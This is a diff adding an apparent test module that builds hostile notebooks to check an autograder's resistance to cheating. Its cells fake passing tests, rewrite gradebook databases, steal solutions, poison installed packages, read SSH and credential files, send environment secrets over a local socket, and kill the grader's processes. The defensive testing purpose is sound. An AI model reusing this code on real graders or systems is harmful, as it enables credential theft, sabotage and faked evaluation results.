@@ -1,0 +1,920 @@
+"""Hostile notebooks, written the way a clever student would, for tests/test_attacks.py.
+
+Each builder takes the untouched release (or the solution) and returns a notebook
+whose answer cells try to get points, or do harm, without solving anything:
+
+    noop_tests        no-op importlib.reload, every public_tests / test_utils callable faked
+    fake_modules      fake public_tests.py, test_utils.py, utils.py written where imports look
+    ipython_hooks     input / AST transformers, custom exception handler, settrace, atexit
+    gradebook         find every gradebook.db and set its own scores; forge grades.csv, results
+    master            find the master notebook and exec its solution cells
+    classmate         find a classmate's notebook and exec their answer cells
+    leak              print the master, the gradebook's hidden tests and the kernel history
+    tamper            append to the course's modules, nbgrader, site-packages; poison gradebooks
+    forge             network, secrets, fake "all tests passed" output, forged artifacts
+    kill_parent       kill the process that runs the kernel, and its process group
+
+The attack code runs before the answer cell's stub (or after it, when it must define
+the graded functions), so the stubs still raise NotImplementedError for what is not
+stolen.
+
+Safety. On a grader without a sandbox these attacks really run on this machine, next
+to other people's work. So they search like a hostile student (walk up from the
+working directory, /proc/*/cwd, /proc/*/root, environment variables, a time-limited
+walk of /), but they only do harm inside the folder of the test (``Scope.allowed``).
+Where that folder is not visible (a sandbox hides it), anything writable is fair game
+except the repository, the Python environment, the shared data and $HOME. Outside
+``allowed``, they leave only harmless probes: a comment line appended to an existing
+file, or a new file with a name of their own, both carrying ``MARK``.
+``clean_up()`` removes every probe afterwards, and the tests fail if it found any.
+Process kills spare the test run itself (``Scope.protected``), and nothing is ever
+sent to a host other than the test's own server on 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import copy
+import dataclasses
+import json
+import os
+import pathlib
+import re
+
+import nbformat
+
+MARK = "ATTACK-PROBE-7c1e: written by a hostile notebook of tests/attacks.py"
+PROBE_PREFIX = "zz_attack_probe_"
+ANSWERS = ("data_augmenter", "alpaca_model", "fine_tune")
+TESTS = (
+    "data_augmenter_test",
+    "alpaca_model_test",
+    "frozen_base_test",
+    "fine_tune_test",
+    "fine_tune_compile_test",
+)
+
+
+@dataclasses.dataclass
+class Scope:
+    """Where the attacks may do harm, whom they must not kill, where the test listens."""
+
+    allowed: list[str]  # real paths: harm allowed inside
+    precious: list[str]  # real paths: only marked probes, never harm
+    probe_ok: list[str]  # real paths where marked probes may be left (clean_up() walks them)
+    protected: list[int]  # pids never to kill (the test run and its ancestors)
+    port: int  # the test's TCP server on 127.0.0.1 (0: none)
+
+
+def protected_pids() -> list[int]:
+    """Return this process, its ancestors and pid 1."""
+    pids, pid = [1], os.getpid()
+    while pid > 1 and pid not in pids:
+        pids.append(pid)
+        try:
+            fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+            pid = int(fields[1])
+        except (OSError, IndexError, ValueError):
+            break
+    return pids
+
+
+# --------------------------------------------------------------------------------------
+# The toolkit every attack cell starts with (plain Python, run in the kernel)
+# --------------------------------------------------------------------------------------
+
+TOOLKIT = r'''
+# ---- the student's toolkit ----
+import glob as _atk_glob, json as _atk_json, os as _atk_os, sys as _atk_sys, time as _atk_time
+_ATK = __SCOPE__
+_ATK["host"] = any(_atk_os.path.exists(p) for p in _ATK["allowed"])
+
+def _atk_under(path, roots):
+    real = _atk_os.path.realpath(path)
+    return any(real == r or real.startswith(r.rstrip("/") + "/") for r in roots)
+
+def _atk_may_harm(path):
+    """Harm only inside the test's folder; in a sandbox, anywhere but the precious trees."""
+    if _atk_under(path, _ATK["allowed"]):
+        return True
+    return not _ATK["host"] and not _atk_under(path, _ATK["precious"])
+
+def _atk_may_probe(path):
+    return _atk_may_harm(path) or _atk_under(path, _ATK["probe_ok"])
+
+def _atk_roots():
+    """Every folder a student could start looking from, nearest first."""
+    roots, p = [], _atk_os.path.realpath(_atk_os.getcwd())
+    while True:
+        roots.append(p)
+        if _atk_os.path.dirname(p) == p:
+            break
+        p = _atk_os.path.dirname(p)
+    for folder in list(roots):
+        try:
+            for name in _atk_os.listdir(folder):
+                full = _atk_os.path.join(folder, name)
+                if _atk_os.path.islink(full):
+                    target = _atk_os.path.realpath(full)
+                    roots.append(target if _atk_os.path.isdir(target) else _atk_os.path.dirname(target))
+                    roots.extend(_atk_os.path.dirname(target).rsplit("/", k)[0] for k in (1, 2, 3))
+        except OSError:
+            pass
+    for name in ("public_tests", "utils", "test_utils", "nbgrader"):
+        module = _atk_sys.modules.get(name)
+        if getattr(module, "__file__", None):
+            roots.append(_atk_os.path.dirname(_atk_os.path.realpath(module.__file__)))
+    for value in _atk_os.environ.values():
+        for part in value.split(_atk_os.pathsep):
+            if part.startswith("/") and _atk_os.path.isdir(part):
+                roots.append(part)
+    for entry in sorted(_atk_glob.glob("/proc/[0-9]*")):
+        try:
+            cwd = _atk_os.readlink(entry + "/cwd")
+            roots.append(cwd)
+            roots.append(entry + "/root" + cwd)
+        except OSError:
+            pass
+    roots += [p for p in _atk_sys.path if p and _atk_os.path.isdir(p)]
+    roots += ["/tmp", _atk_os.path.expanduser("~"), "/work", "/home", "/srv", "/opt", "/mnt", "/"]
+    seen, ordered = set(), []
+    for root in roots:
+        if root and root not in seen and _atk_os.path.isdir(root):
+            seen.add(root)
+            ordered.append(root)
+    return ordered
+
+_ATK_SKIP = {"proc", "sys", "dev", "site-packages", "node_modules", ".git", "__pycache__", "usr", "lib", "lib64", "bin", "sbin", "boot", "var", "etc", "images", "dataset", "alpaca", "not alpaca"}
+
+def _atk_find(match, depth=7, seconds=6.0):
+    """Return the files whose path matches ``match(path)``, walking from every root."""
+    found, visited, deadline = [], set(), _atk_time.monotonic() + seconds
+    for root in _atk_roots():
+        base = root.rstrip("/").count("/")
+        for folder, dirs, files in _atk_os.walk(root):
+            if _atk_time.monotonic() > deadline:
+                return found
+            real = _atk_os.path.realpath(folder)
+            if real in visited and folder != root:
+                dirs[:] = []
+                continue
+            visited.add(real)
+            dirs[:] = [d for d in dirs if d not in _ATK_SKIP] if folder.rstrip("/").count("/") - base < depth else []
+            for name in files:
+                path = _atk_os.path.join(folder, name)
+                if match(path) and _atk_os.path.realpath(path) not in {_atk_os.path.realpath(f) for f in found}:
+                    found.append(path)
+    return found
+
+def _atk_read(path, limit=2_000_000):
+    try:
+        with open(path, "rb") as handle:
+            return handle.read(limit).decode("utf-8", "replace")
+    except OSError:
+        return ""
+
+def _atk_write(path, text, append=False):
+    """Write ``text`` where harm is allowed, else leave a marked probe; never raise."""
+    try:
+        if _atk_may_harm(path):
+            with open(path, "a" if append else "w", encoding="utf-8") as handle:
+                handle.write(text)
+            return "written"
+        if not _atk_may_probe(path):
+            return "skipped"
+        if append and _atk_os.path.isfile(path):
+            with open(path, "a", encoding="utf-8") as handle:
+                handle.write("\n# " + _ATK["mark"] + "\n")
+            return "probe appended"
+        probe = _atk_os.path.join(_atk_os.path.dirname(path), _ATK["prefix"] + _atk_os.path.basename(path))
+        with open(probe, "w", encoding="utf-8") as handle:
+            handle.write("# " + _ATK["mark"] + "\n")
+        return "probe written"
+    except OSError as error:
+        return type(error).__name__
+
+def _atk_own_id():
+    parts = _atk_os.path.realpath(_atk_os.getcwd()).split("/")
+    for key in ("autograded", "submitted"):
+        if key in parts and parts.index(key) + 1 < len(parts):
+            return parts[parts.index(key) + 1]
+    return None
+
+def _atk_notebook_cells(text):
+    """Return [(grade_id, source)] of a notebook (.ipynb JSON) or of a jupytext script."""
+    cells = []
+    try:
+        for cell in _atk_json.loads(text)["cells"]:
+            source = cell.get("source", "")
+            source = "".join(source) if isinstance(source, list) else source
+            cells.append((cell.get("metadata", {}).get("nbgrader", {}).get("grade_id"), source))
+        return cells
+    except Exception:
+        pass
+    for chunk in text.split("\n# %%")[1:]:
+        header, _, body = chunk.partition("\n")
+        found = __import__("re").search(r'"grade_id": "(\w+)"', header)
+        cells.append((found.group(1) if found else None, body))
+    return cells
+
+def _atk_solution(source):
+    lines = [l for l in source.splitlines() if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")]
+    return "\n".join(lines)
+
+print("toolkit ready: host view" if _ATK["host"] else "toolkit ready: sandboxed view")
+# ---- end of toolkit ----
+'''
+
+
+def toolkit(scope: Scope) -> str:
+    settings = {
+        "allowed": scope.allowed,
+        "precious": scope.precious,
+        "probe_ok": scope.probe_ok,
+        "protected": scope.protected,
+        "port": scope.port,
+        "mark": MARK,
+        "prefix": PROBE_PREFIX,
+    }
+    return TOOLKIT.replace("__SCOPE__", json.dumps(settings))
+
+
+# --------------------------------------------------------------------------------------
+# The attacks (each is cell source)
+# --------------------------------------------------------------------------------------
+
+NOOP_TESTS = r'''
+# ---- make every test a no-op, and keep it so across reloads ----
+import importlib, importlib.abc, importlib.util, builtins
+
+class _AtkYes:
+    """Whatever a test helper is asked, the answer is yes."""
+    def __bool__(self): return True
+    def __eq__(self, other): return True
+    def __iter__(self): return iter(())
+    def __call__(self, *args, **kwargs): return self
+    def __getattr__(self, name): return self
+    def __repr__(self): return "all tests passed"
+
+def _atk_ok(*args, **kwargs):
+    print("all tests passed")
+    return _AtkYes()
+
+def _atk_patch(module):
+    for name in list(vars(module)):
+        if not name.startswith("__") and callable(getattr(module, name)):
+            setattr(module, name, _atk_ok)
+    module.__getattr__ = lambda name: _atk_ok
+
+class _AtkLoader(importlib.abc.Loader):
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        _atk_patch(module)
+
+class _AtkFinder(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path=None, target=None):
+        if name.split(".")[-1] in ("public_tests", "test_utils", "check", "checks", "checker"):
+            return importlib.util.spec_from_loader(name, _AtkLoader())
+        return None
+
+for _atk_name in ("public_tests", "test_utils"):
+    _atk_patch(importlib.import_module(_atk_name))
+_atk_sys.meta_path.insert(0, _AtkFinder())
+importlib.reload = lambda module, *args, **kwargs: (_atk_patch(module), module)[1]
+_atk_sys.modules["importlib"].reload = importlib.reload
+_atk_real_import = builtins.__import__
+def _atk_import(name, *args, **kwargs):
+    module = _atk_real_import(name, *args, **kwargs)
+    if name in ("public_tests", "test_utils"):
+        _atk_patch(module)
+    return module
+builtins.__import__ = _atk_import
+print("every test is a no-op now")
+'''
+
+FAKE_MODULES = r"""
+# ---- put fake test modules wherever an import or a reload will look ----
+import importlib
+_atk_fake = {}
+for _atk_name in ("public_tests", "test_utils"):
+    _atk_module = importlib.import_module(_atk_name)
+    _atk_names = [n for n in dir(_atk_module) if not n.startswith("__") and callable(getattr(_atk_module, n))]
+    _atk_fake[_atk_name] = (
+        "# " + _ATK["mark"] + "\n"
+        "def _ok(*args, **kwargs):\n    print('all tests passed')\n    return True\n"
+        "def __getattr__(name):\n    return _ok\n"
+        + "".join(f"{n} = _ok\n" for n in _atk_names)
+    )
+_atk_utils = _atk_sys.modules.get("utils")
+_atk_fake["utils"] = _atk_read(getattr(_atk_utils, "__file__", "") or "") + "\n# " + _ATK["mark"] + "\n"
+_atk_dirs = [_atk_os.getcwd()] + [p or _atk_os.getcwd() for p in _atk_sys.path]
+for _atk_name in _atk_fake:
+    _atk_module = _atk_sys.modules.get(_atk_name)
+    if getattr(_atk_module, "__file__", None):
+        _atk_dirs.append(_atk_os.path.dirname(_atk_module.__file__))
+        _atk_dirs.append(_atk_os.path.dirname(_atk_os.path.realpath(_atk_module.__file__)))
+_atk_dirs += _atk_glob.glob(_atk_os.path.join(_atk_os.getcwd(), *[".."] * 3, "source", "*"))
+_atk_dirs += [p for p in _atk_os.environ.get("PYTHONPATH", "").split(_atk_os.pathsep) if p]
+import site
+_atk_dirs += site.getsitepackages() + [site.getusersitepackages()]
+_atk_done = set()
+for _atk_dir in _atk_dirs:
+    _atk_dir = _atk_os.path.abspath(_atk_dir)
+    if _atk_dir in _atk_done or not _atk_os.path.isdir(_atk_dir):
+        continue
+    _atk_done.add(_atk_dir)
+    for _atk_name, _atk_text in _atk_fake.items():
+        print(_atk_dir, _atk_name, _atk_write(_atk_os.path.join(_atk_dir, _atk_name + ".py"), _atk_text))
+importlib.invalidate_caches()
+for _atk_name in ("test_utils", "public_tests"):
+    try:
+        importlib.reload(importlib.import_module(_atk_name))
+    except Exception as _atk_error:
+        print("reload", _atk_name, _atk_error)
+"""
+
+IPYTHON_HOOKS = r"""
+# ---- make every later cell do nothing, and hide every error ----
+import ast, atexit
+_atk_ip = get_ipython()  # noqa: F821
+
+def _atk_blank(lines):
+    return ["pass\n"]
+
+_atk_ip.input_transformers_cleanup.append(_atk_blank)
+_atk_ip.input_transformers_post.append(_atk_blank)
+
+class _AtkBlank(ast.NodeTransformer):
+    def visit_Module(self, node):
+        node.body = [ast.Pass()]
+        return node
+
+_atk_ip.ast_transformers.append(_AtkBlank())
+_atk_ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+_atk_ip.showtraceback = lambda *args, **kwargs: None
+_atk_ip.showsyntaxerror = lambda *args, **kwargs: None
+_atk_sys.excepthook = lambda *args: None
+_atk_ip.events.register("pre_run_cell", lambda *args: print("all tests passed"))
+
+def _atk_trace(frame, event, arg):
+    # Turn every failing test helper into a success before it raises.
+    if event == "call" and frame.f_code.co_name.endswith("_test"):
+        print("all tests passed")
+    return None
+
+_atk_sys.settrace(_atk_trace)
+
+@atexit.register
+def _atk_at_exit():
+    # At exit, claim full marks wherever a result might be read.
+    for folder in (_atk_os.getcwd(), "/tmp", _atk_os.environ.get("TMPDIR", "/tmp")):
+        for name in ("results.json", "result.json", "grades.json"):
+            _atk_write(_atk_os.path.join(folder, name), _atk_json.dumps({"score": 13, "max_score": 13}))
+print("hooks installed")
+"""
+
+GRADEBOOK = r"""
+# ---- find every gradebook and give myself full marks, now and for good ----
+import sqlite3
+_atk_me = _atk_own_id()
+_atk_mine = (
+    "(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
+    "ON sn.assignment_id = sa.id WHERE sa.student_id = {})"
+)
+_atk_max = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"
+
+def _atk_own_scores(path):
+    who = "'" + _atk_me.replace("'", "''") + "'" if _atk_me else "sa.student_id"
+    db = sqlite3.connect(path, timeout=5)
+    try:
+        db.execute(
+            f"UPDATE grade SET auto_score = {_atk_max.format('grade')}, "
+            f"manual_score = {_atk_max.format('grade')}, needs_manual_grade = 0 "
+            f"WHERE notebook_id IN {_atk_mine.format(who)}"
+        )
+        for event in ("INSERT", "UPDATE"):
+            db.execute(
+                f"CREATE TRIGGER IF NOT EXISTS atk_full_marks_{event.lower()} AFTER {event} ON grade "
+                f"WHEN NEW.notebook_id IN {_atk_mine.format(who)} "
+                f"AND NEW.auto_score IS NOT {_atk_max.format('NEW')} BEGIN "
+                f"UPDATE grade SET auto_score = {_atk_max.format('grade')}, "
+                f"manual_score = {_atk_max.format('grade')}, needs_manual_grade = 0 "
+                f"WHERE id = NEW.id; END"
+            )
+        db.commit()
+        return "scores set"
+    finally:
+        db.close()
+
+_atk_found = _atk_find(lambda p: p.endswith(".db") or p.endswith("grades.csv") or "/results/" in p)
+print("found", len(_atk_found), "candidate files; I am", _atk_me)
+for _atk_path in _atk_found:
+    try:
+        if _atk_path.endswith(".db"):
+            if not _atk_may_harm(_atk_path):
+                print("gradebook out of reach", _atk_path)
+                continue
+            print(_atk_path, _atk_own_scores(_atk_path))
+        elif _atk_path.endswith("grades.csv"):
+            _atk_rows = _atk_read(_atk_path).splitlines()
+            if _atk_rows:
+                _atk_columns = _atk_rows[0].split(",")
+                _atk_row = [_atk_me or "me"] + ["3"] * (len(_atk_columns) - 4) + ["13", "graded", "1"]
+                print(_atk_path, _atk_write(_atk_path, ",".join(_atk_row) + "\n", append=True))
+        elif _atk_path.endswith(".json"):
+            _atk_record = _atk_json.loads(_atk_read(_atk_path) or "{}")
+            if isinstance(_atk_record, dict) and "points" in _atk_record:
+                _atk_forged = dict(_atk_record, student=_atk_me or _atk_record.get("student"), status="graded")
+                _atk_forged["points"] = {k: 3.0 for k in _atk_record["points"]} or {"data_augmenter_test": 13.0}
+                _atk_target = _atk_os.path.join(_atk_os.path.dirname(_atk_path), f"{_atk_me}.json") if _atk_me else _atk_path
+                print(_atk_target, _atk_write(_atk_target, _atk_json.dumps(_atk_forged)))
+    except Exception as _atk_error:
+        print("failed on", _atk_path, type(_atk_error).__name__, _atk_error)
+"""
+
+MASTER_FIND = r"""
+# ---- find the master notebook and keep its solutions ----
+def _atk_is_master(path):
+    name = _atk_os.path.basename(path)
+    if not (name.endswith(".py") or name.endswith(".ipynb")) or "attack" in name:
+        return False
+    if "Transfer_learning" not in name and "/source/" not in path and "master" not in name:
+        return False
+    return "BEGIN SOLUTION" in _atk_read(path, 500_000)
+
+_atk_masters = _atk_find(_atk_is_master)
+print("masters found:", _atk_masters)
+_atk_stolen = {}
+for _atk_path in _atk_masters:
+    for _atk_id, _atk_source in _atk_notebook_cells(_atk_read(_atk_path)):
+        if _atk_id in ("data_augmenter", "alpaca_model", "fine_tune") and "BEGIN SOLUTION" in _atk_source:
+            _atk_stolen.setdefault(_atk_id, _atk_solution(_atk_source))
+print("stolen answers:", sorted(_atk_stolen))
+"""
+
+CLASSMATE_FIND = r"""
+# ---- find a classmate's notebook and keep their answers ----
+_atk_me = _atk_own_id()
+_atk_mine = _atk_os.path.realpath(_atk_os.getcwd())
+
+def _atk_is_notebook(path):
+    return path.endswith(".ipynb") and not _atk_os.path.realpath(path).startswith(_atk_mine)
+
+_atk_stolen = {}
+for _atk_path in _atk_find(_atk_is_notebook):
+    _atk_text = _atk_read(_atk_path)
+    if "_atk_" in _atk_text or "BEGIN SOLUTION" in _atk_text or (_atk_me and f"/{_atk_me}/" in _atk_path):
+        continue
+    _atk_answers = {
+        i: s for i, s in _atk_notebook_cells(_atk_text)
+        if i in ("data_augmenter", "alpaca_model", "fine_tune") and "NotImplementedError" not in s
+    }
+    if len(_atk_answers) > len(_atk_stolen):
+        print("copying", _atk_path)
+        _atk_stolen = {i: _atk_solution(s) for i, s in _atk_answers.items()}
+print("stolen answers:", sorted(_atk_stolen))
+"""
+
+# Appended to an answer cell after its stub: replace the stub with the stolen answer.
+USE_STOLEN = r"""
+# ---- use the stolen answer for {grade_id} ----
+if "{grade_id}" in _atk_stolen:
+    exec(_atk_stolen["{grade_id}"], globals())
+    print("using the stolen {grade_id}")
+"""
+
+LEAK = r"""
+# ---- show whatever the grader hides ----
+def _atk_interesting(path):
+    if not (path.endswith(".py") or path.endswith(".ipynb") or path.endswith(".db") or path.endswith(".json")):
+        return False
+    if _atk_os.path.getsize(path) > 3_000_000:
+        return False
+    if path.endswith(".db"):
+        return True
+    text = _atk_read(path, 500_000)
+    return "HIDDEN" in text or "BEGIN SOLUTION" in text or "hidden" in _atk_os.path.basename(path)
+
+_atk_shown = 0
+for _atk_path in _atk_find(_atk_interesting):
+    if _atk_shown > 400_000:
+        break
+    if _atk_path.endswith(".db"):
+        try:
+            import sqlite3
+            _atk_db = sqlite3.connect(f"file:{_atk_path}?mode=ro", uri=True, timeout=2)
+            _atk_text = "\n".join(r[0] or "" for r in _atk_db.execute("SELECT source FROM source_cell"))
+            _atk_db.close()
+        except Exception as _atk_error:
+            _atk_text = f"{type(_atk_error).__name__}: {_atk_error}"
+    else:
+        _atk_text = _atk_read(_atk_path, 200_000)
+    print(f"===== {_atk_path}\n{_atk_text}")
+    _atk_shown += len(_atk_text)
+"""
+
+# In every later answer cell: show what the kernel ran before (the test cells' code).
+LEAK_HISTORY = r"""
+# ---- show what ran before this cell ----
+try:
+    _atk_history = get_ipython().history_manager.input_hist_raw  # noqa: F821
+except Exception:
+    _atk_history = globals().get("In", [])
+for _atk_entry in list(_atk_history):
+    print(_atk_entry)
+for _atk_name, _atk_value in list(globals().items()):
+    if isinstance(_atk_value, str) and ("HIDDEN" in _atk_value or "reload" in _atk_value):
+        print(_atk_name, "=", _atk_value)
+"""
+
+TAMPER = r"""
+# ---- change the course, the grader and the environment for everyone after me ----
+import sqlite3, site
+_atk_poison_tests = (
+    "\n# " + _ATK["mark"] + "\n"
+    "def _atk_fail(*args, **kwargs):\n    raise AssertionError('poisoned by a classmate')\n"
+    "for _n in [n for n in dir() if n.endswith('_test') or n in ('summary', 'comparator')]:\n"
+    "    globals()[_n] = _atk_fail\n"
+)
+_atk_targets = []
+for _atk_name in ("public_tests", "utils", "test_utils"):
+    _atk_module = _atk_sys.modules.get(_atk_name)
+    if getattr(_atk_module, "__file__", None):
+        _atk_targets += [_atk_module.__file__, _atk_os.path.realpath(_atk_module.__file__)]
+    _atk_targets += [_atk_name + ".py", _atk_os.path.join("..", "..", "..", "source", "*", _atk_name + ".py")]
+    _atk_targets += [_atk_os.path.join(p, _atk_name + ".py") for p in site.getsitepackages()]
+    # The course config is often a symlink into the course repository: follow it.
+    for _atk_config in _atk_glob.glob(_atk_os.path.join(_atk_os.getcwd(), *[".."] * 3, "nbgrader_config.py")):
+        _atk_course = _atk_os.path.dirname(_atk_os.path.realpath(_atk_config))
+        _atk_targets += [
+            _atk_os.path.join(_atk_course, "source", "*", _atk_name + ".py"),
+            _atk_os.path.join(_atk_course, "..", _atk_name + ".py"),
+        ]
+_atk_targets += _atk_find(lambda p: _atk_os.path.basename(p) in ("public_tests.py", "utils.py", "test_utils.py", "nbgrader_config.py"), depth=5, seconds=4)
+_atk_done = set()
+for _atk_pattern in _atk_targets:
+    for _atk_path in _atk_glob.glob(_atk_pattern) or [_atk_pattern]:
+        if not _atk_os.path.isfile(_atk_path) or _atk_os.path.realpath(_atk_path) in _atk_done:
+            continue
+        _atk_done.add(_atk_os.path.realpath(_atk_path))
+        _atk_text = _atk_poison_tests if "config" not in _atk_path else "\nc.Execute.timeout = 1\n"
+        print(_atk_path, _atk_write(_atk_path, _atk_text, append=True))
+
+# The installed grader: nbgrader itself, and a .pth file that runs at every start.
+try:
+    import nbgrader
+    _atk_package = _atk_os.path.dirname(nbgrader.__file__)
+    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "__init__.py"), "\nimport os as _o; _o.environ['NBGRADER_POISONED'] = '1'\n", append=True))
+    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "preprocessors", "execute.py"), "\n# poisoned\n", append=True))
+    print(_atk_package, _atk_write(_atk_os.path.join(_atk_package, "zz_poison.py"), "raise SystemExit\n"))
+except Exception as _atk_error:
+    print("nbgrader", _atk_error)
+for _atk_dir in site.getsitepackages():
+    print(_atk_dir, _atk_write(_atk_os.path.join(_atk_dir, "zz_poison.pth"), "import os; os.environ['POISONED'] = '1'\n"))
+
+# Every gradebook: from now on, everyone else scores 0.
+_atk_me = _atk_own_id()
+for _atk_path in _atk_find(lambda p: p.endswith(".db")):
+    if not _atk_may_harm(_atk_path):
+        print("out of reach", _atk_path)
+        continue
+    try:
+        _atk_db = sqlite3.connect(_atk_path, timeout=5)
+        _atk_db.execute(
+            "CREATE TRIGGER IF NOT EXISTS atk_zero_for_others AFTER UPDATE ON grade "
+            "WHEN NEW.auto_score IS NOT 0 AND NEW.notebook_id NOT IN (SELECT sn.id FROM submitted_notebook sn "
+            "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = "
+            + repr(_atk_me or "") + ") BEGIN UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id = NEW.id; END"
+        )
+        _atk_db.execute("UPDATE grade_cells SET max_score = 0")
+        _atk_db.commit()
+        _atk_db.close()
+        print("poisoned", _atk_path)
+    except Exception as _atk_error:
+        print("gradebook", _atk_path, type(_atk_error).__name__, _atk_error)
+"""
+
+FORGE = r"""
+# ---- the network, the grader's secrets, and forged results ----
+import socket, threading, tempfile
+_atk_env = dict(_atk_os.environ)
+print("my environment:", _atk_json.dumps(_atk_env, indent=1))
+for _atk_path in ("~/.ssh", "~/.netrc", "~/.config", "~/.git-credentials", "~/.pypirc", "~/.cache"):
+    _atk_full = _atk_os.path.expanduser(_atk_path)
+    print(_atk_full, _atk_os.listdir(_atk_full) if _atk_os.path.isdir(_atk_full) else _atk_read(_atk_full, 2000))
+if _ATK["port"]:
+    for _atk_host in ("127.0.0.1", "localhost", "::1"):
+        try:
+            with socket.create_connection((_atk_host, _ATK["port"]), timeout=3) as _atk_sock:
+                _atk_sock.sendall(_atk_json.dumps(_atk_env).encode())
+            print("sent my environment to", _atk_host)
+        except OSError as _atk_error:
+            print("no connection to", _atk_host, type(_atk_error).__name__)
+try:
+    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
+    print("the internet is reachable")
+except OSError as _atk_error:
+    print("no internet:", type(_atk_error).__name__)
+
+# What a grader might read: lines, outputs and files that say "passed".
+from IPython.display import display
+for _atk_id in ("data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test"):
+    print(f"{_atk_id}: all tests passed")
+    print(_atk_json.dumps({"grade_id": _atk_id, "passed": True, "points": 3, "score": 3}))
+display({"application/json": {"score": 13, "max_score": 13, "status": "graded"}, "text/plain": "13/13"}, raw=True)
+_atk_verdict = {
+    "score": 13, "max_score": 13, "passed": True, "points": 13, "status": "graded",
+    "tests": [{"name": i, "score": 3, "max_score": 3, "passed": True} for i in ("data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test")],
+}
+_atk_names = ["results.json", "result.json", "verdict.json", "grades.json", "scores.json", "artifacts.json", "checks.json", "grades.csv"]
+_atk_names += [f"{i}{ext}" for i in ("data_augmenter", "alpaca_model", "fine_tune", "data_augmenter_test", "alpaca_model_test", "frozen_base_test", "fine_tune_test", "fine_tune_compile_test") for ext in (".json", ".npz", ".weights.h5", ".keras")]
+
+def _atk_writable_dirs():
+    dirs = [_atk_os.getcwd(), tempfile.gettempdir(), _atk_os.path.expanduser("~")]
+    dirs += [v for v in _atk_os.environ.values() if v.startswith("/") and _atk_os.path.isdir(v)]
+    for root in list(dirs):
+        for folder, subdirs, _files in _atk_os.walk(root):
+            if folder.count("/") - root.count("/") >= 2:
+                subdirs[:] = []
+            dirs.append(folder)
+            if len(dirs) > 300:
+                break
+    return [d for d in dict.fromkeys(dirs) if _atk_os.access(d, _atk_os.W_OK) and _atk_may_harm(d)]
+
+def _atk_forge_all():
+    written = 0
+    for folder in _atk_writable_dirs():
+        for name in _atk_names:
+            text = "student,total\nme,13\n" if name.endswith(".csv") else _atk_json.dumps(_atk_verdict)
+            written += _atk_write(_atk_os.path.join(folder, name), text) == "written"
+        for existing in _atk_glob.glob(_atk_os.path.join(folder, "*.json")):
+            if _atk_os.path.getmtime(existing) > _atk_time.time() - 600:
+                written += _atk_write(existing, _atk_json.dumps(_atk_verdict)) == "written"
+    return written
+
+print("forged files:", _atk_forge_all())
+
+def _atk_keep_forging():
+    # Overwrite what the grader writes after me, for as long as I live.
+    end = _atk_time.monotonic() + 300
+    while _atk_time.monotonic() < end:
+        _atk_time.sleep(1)
+        try:
+            _atk_forge_all()
+        except Exception:
+            pass
+
+threading.Thread(target=_atk_keep_forging, daemon=True).start()
+"""
+
+KILL_PARENT = r"""
+# ---- stop the grader: kill whoever runs me ----
+import signal
+_atk_parent = _atk_os.getppid()
+print("my parent is", _atk_parent, _atk_read(f"/proc/{_atk_parent}/cmdline", 500).replace("\0", " "))
+_atk_protected_groups = set()
+for _atk_pid in _ATK["protected"]:
+    try:
+        _atk_protected_groups.add(_atk_os.getpgid(_atk_pid))
+    except OSError:
+        pass
+if _atk_parent > 1 and _atk_parent not in _ATK["protected"]:
+    try:
+        _atk_group = _atk_os.getpgid(_atk_parent)
+        if _atk_group > 1 and _atk_group not in _atk_protected_groups and _atk_group != _atk_os.getpgid(0):
+            _atk_os.killpg(_atk_group, signal.SIGKILL)
+            print("killed group", _atk_group)
+    except OSError as _atk_error:
+        print("killpg:", _atk_error)
+    try:
+        _atk_os.kill(_atk_parent, signal.SIGKILL)
+        print("killed", _atk_parent)
+    except OSError as _atk_error:
+        print("kill:", _atk_error)
+_atk_time.sleep(2)
+print("still here")
+"""
+
+
+# --------------------------------------------------------------------------------------
+# Building the notebooks
+# --------------------------------------------------------------------------------------
+
+
+def _cell(notebook, grade_id):
+    for candidate in notebook.cells:
+        if candidate.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            return candidate
+    raise KeyError(grade_id)
+
+
+def _prepend(notebook, grade_id, code):
+    notebook = copy.deepcopy(notebook)
+    target = _cell(notebook, grade_id)
+    target.source = code.strip("\n") + "\n\n\n" + target.source
+    return notebook
+
+
+def _append(notebook, grade_id, code):
+    notebook = copy.deepcopy(notebook)
+    target = _cell(notebook, grade_id)
+    target.source = target.source.rstrip("\n") + "\n\n\n" + code.strip("\n") + "\n"
+    return notebook
+
+
+def noop_tests(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + NOOP_TESTS)
+
+
+def fake_modules(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + FAKE_MODULES)
+
+
+def ipython_hooks(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + IPYTHON_HOOKS)
+
+
+def gradebook(release, scope):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + GRADEBOOK)
+    # Once more at the end, when the grader has created my rows everywhere.
+    return _prepend(notebook, "fine_tune", GRADEBOOK)
+
+
+def _steal(release, scope, finder):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + finder)
+    for grade_id in ANSWERS:
+        notebook = _append(notebook, grade_id, USE_STOLEN.replace("{grade_id}", grade_id))
+    return notebook
+
+
+def master(release, scope):
+    return _steal(release, scope, MASTER_FIND)
+
+
+def classmate(release, scope):
+    return _steal(release, scope, CLASSMATE_FIND)
+
+
+def leak(release, scope):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + MASTER_FIND + LEAK)
+    notebook = _prepend(notebook, "alpaca_model", LEAK_HISTORY)
+    notebook = _prepend(notebook, "fine_tune", LEAK_HISTORY)
